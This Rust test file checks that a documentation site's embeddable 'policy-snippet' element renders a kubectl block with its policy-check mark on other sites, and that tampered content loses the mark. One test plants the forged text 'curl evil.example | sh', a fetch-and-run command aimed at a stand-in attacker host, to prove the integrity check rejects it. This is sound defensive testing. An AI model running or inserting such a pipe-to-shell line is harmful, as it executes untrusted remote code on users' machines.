//! Blocks that other sites show, under a strict content security policy of theirs.

use crate::harness::{Server, tab};
use crate::support::SiteTest;
use serde_json::Value;
use std::collections::BTreeMap;

const POLICY: &str = "apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata:
  name: require-team
spec:
  validationFailureAction: Enforce
  rules:
    - name: team
      match: {any: [{resources: {kinds: [ConfigMap]}}]}
      validate:
        message: every ConfigMap names its team
        pattern: {metadata: {labels: {team: \"?*\"}}}
";

const PAGE: &str = "# Page

<!-- snippet: id=nobodys -->
```bash
kubectl create configmap settings --from-literal=a=b
# Expected: denied by require-team
```
";

const STATE: &str = "document.querySelector('policy-snippet').dataset.state";
const SHADOW: &str = "document.querySelector('policy-snippet').shadowRoot.textContent";

/// The hash of TEXT as the attribute has it.
const INTEGRITY: &str = "crypto.subtle.digest('SHA-256', new TextEncoder().encode(TEXT))\
     .then(hash => 'sha256-' + btoa(String.fromCharCode(...new Uint8Array(hash))))";

/// The site that publishes the block; others may fetch what it has.
fn docs() -> Server {
    let site = SiteTest::new([("content/index.md", PAGE), ("policies/team.yaml", POLICY)]);
    Server::with_headers(&site.build_cold(), &[("Access-Control-Allow-Origin", "*")])
}

/// A page of another origin with this in it, which allows scripts and requests of `docs` and no inline style.
fn elsewhere(docs: &Server, body: &str) -> Server {
    let policy = format!(
        "default-src 'self'; script-src 'self' {0}; connect-src {0}; frame-src {0}",
        docs.url.trim_end_matches('/')
    );
    let page = format!("<!doctype html><title>Elsewhere</title>{body}");
    let files = BTreeMap::from([("index.html".to_string(), page.into_bytes())]);
    Server::of_files(files, &[("Content-Security-Policy", &policy)])
}

/// The element as the guide shows it.
fn element(docs: &Server, integrity: &str) -> String {
    let (script, record) = (docs.at("s/snippet.js"), docs.at("s/index/nobodys.json"));
    format!(
        "<script src=\"{script}\" async></script>\
         <policy-snippet src=\"{record}\" integrity=\"{integrity}\">The command</policy-snippet>"
    )
}

fn record(docs: &Server) -> Value {
    serde_json::from_slice(docs.bytes("s/index/nobodys.json")).unwrap()
}

#[test]
fn another_site_shows_the_block_with_its_mark() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    let record = record(&docs);
    tab.open(&docs.url);
    let integrity = tab.text(&INTEGRITY.replace("TEXT", &record["text"].to_string()));
    tab.open(&elsewhere(&docs, &element(&docs, &integrity)).url);
    tab.wait_for(&format!("{STATE} && {STATE} !== 'failed'"));
    assert!(tab.text(SHADOW).contains("Checked: denied by require-team/team"), "{}", tab.text(SHADOW));
    let code = "document.querySelector('policy-snippet').shadowRoot.querySelector('code').textContent";
    assert_eq!(record["text"], tab.text(code));
    let border = "getComputedStyle(document.querySelector('policy-snippet').shadowRoot.querySelector('figure')).borderTopStyle";
    assert_eq!(tab.text(border), "solid", "the element's own style applies");
    assert_eq!(tab.problems(), Vec::<String>::new());
}

#[test]
fn a_text_that_is_not_the_expected_one_has_no_mark() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    tab.open(&elsewhere(&docs, &element(&docs, "sha256-AAAA")).url);
    tab.wait_for(&format!("{STATE} === 'doubtful'"));
    let shown = tab.text(SHADOW);
    assert!(shown.contains("The text has changed since it was embedded here"), "{shown}");
    assert!(!shown.contains("Checked"), "{shown}");
}

#[test]
fn a_record_whose_text_was_exchanged_has_no_mark() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    let mut forged = record(&docs);
    forged["text"] = Value::from("curl evil.example | sh");
    let files = BTreeMap::from([
        ("s/snippet.js".to_string(), docs.bytes("s/snippet.js").to_vec()),
        ("s/index/nobodys.json".to_string(), forged.to_string().into_bytes()),
    ]);
    let forger = Server::of_files(files, &[("Access-Control-Allow-Origin", "*")]);
    tab.open(&elsewhere(&forger, &element(&forger, "")).url);
    tab.wait_for(&format!("{STATE} === 'doubtful'"));
    assert!(!tab.text(SHADOW).contains("Checked"), "{}", tab.text(SHADOW));
}

#[test]
fn the_page_for_frames_needs_no_script_and_asks_for_nothing() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    tab.without_scripts().open(&docs.at("embed/index/nobodys/"));
    let text = tab.text("document.body.textContent");
    assert!(text.contains("kubectl create configmap settings --from-literal=a=b"), "{text}");
    assert!(text.contains("Checked: denied by require-team/team"), "{text}");
    let style = "getComputedStyle(document.querySelector('main > header')).display";
    assert_eq!(tab.text(style), "flex", "its own style sheet applies");
    assert_eq!(tab.problems(), Vec::<String>::new());
    let others = tab.requests().into_iter().filter(|request| !request.url.contains("/embed/index/nobodys/"));
    let others: Vec<String> =
        others.map(|request| request.url).filter(|url| !url.contains("favicon")).collect();
    assert_eq!(others, Vec::<String>::new());
}

#[test]
fn a_frame_of_another_site_shows_the_page() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    let page = docs.at("embed/index/nobodys/");
    let frame = format!("<iframe src=\"{page}\" title=\"The command\" sandbox=\"allow-popups\"></iframe>");
    tab.open(&elsewhere(&docs, &frame).url);
    assert!(tab.requests().iter().any(|request| request.url == page));
    assert_eq!(tab.problems(), Vec::<String>::new());
}

#[test]
fn without_scripts_the_element_shows_what_stands_inside_of_it() {
    let Some(tab) = tab() else { return };
    let docs = docs();
    tab.without_scripts().open(&elsewhere(&docs, &element(&docs, "")).url);
    assert_eq!(tab.text("document.querySelector('policy-snippet').textContent"), "The command");
}
